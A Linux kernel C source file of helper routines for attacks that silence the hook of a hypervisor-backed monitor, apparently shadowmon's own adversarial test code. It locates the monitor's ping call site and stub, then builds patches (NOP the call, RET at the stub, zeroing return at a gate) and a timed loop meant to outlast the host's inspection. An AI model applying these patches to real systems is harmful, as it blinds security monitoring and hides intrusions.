// SPDX-License-Identifier: GPL-2.0-or-later
/* What attacks that silence a hook have in common: see attack.h. */

#include <linux/ktime.h>
#include <linux/mm.h>
#include <linux/sched.h>
#include <linux/string.h>
#include <asm/text-patching.h>

#include <shadowmon/hypercall.h>

#include "attack.h"
#include "gate_offsets.h"

#define FENTRY_DISTANCE 16
#define AT_ONCE         100

/* Longer than the host takes to look at everything. */
#define HOLD_MS 2500

int ping_find(struct ping *ping)
{
	u8 *entry = attack_symbol("shadowmon_ping");
	s32 distance;

	ping->call = (void *)entry;
	for (ping->site = entry; entry && *ping->site != CALL_INSN_OPCODE; ping->site++)
		if (ping->site == entry + FENTRY_DISTANCE)
			return -ENOENT;
	if (!entry || offset_in_page(ping->site) > PAGE_SIZE - SM_CALL_SITE_SIZE)
		return -ENOENT;
	memcpy(&distance, ping->site + 1, sizeof(distance));
	ping->stub = ping->site + SM_CALL_SITE_SIZE + distance;
	return 0;
}

void ping_silent(const struct ping *ping, enum place place, struct patch *ret_patch)
{
	static const struct patch patches[] = {
		[AT_CALL_SITE] = {.code = {0x0f, 0x1f, 0x44, 0x00, 0x00}, .size = 5}, /* nop */
		[AT_STUB] = {.code = {0xc3}, .size = 1},                              /* ret */
		[AT_GATE] = {.code = {0x31, 0xd2, 0xc3}, .size = 3}, /* xor %edx, %edx; ret */
	};

	*ret_patch = patches[place];
	switch (place) {
	case AT_CALL_SITE:
		ret_patch->at = ping->site;
		break;
	case AT_STUB:
		ret_patch->at = ping->stub;
		break;
	case AT_GATE:
		ret_patch->at = gate + GATE_ENTER_OFFSET;
		break;
	}
}

u8 *patch_page(const struct patch *patch)
{
	return (u8 *)((unsigned long)patch->at & PAGE_MASK);
}

void patch_copy(const struct patch *patch, u8 *copy)
{
	memcpy(copy, patch_page(patch), PAGE_SIZE);
	memcpy(copy + offset_in_page(patch->at), patch->code, patch->size);
}

unsigned int ping_hold(const struct ping *ping)
{
	ktime_t end = ktime_add_ms(ktime_get(), HOLD_MS);
	unsigned int calls;

	for (calls = 0; ktime_before(ktime_get(), end); calls++) {
		ping->call(0);
		if (calls % AT_ONCE == 0)
			cond_resched();
	}
	return calls;
}
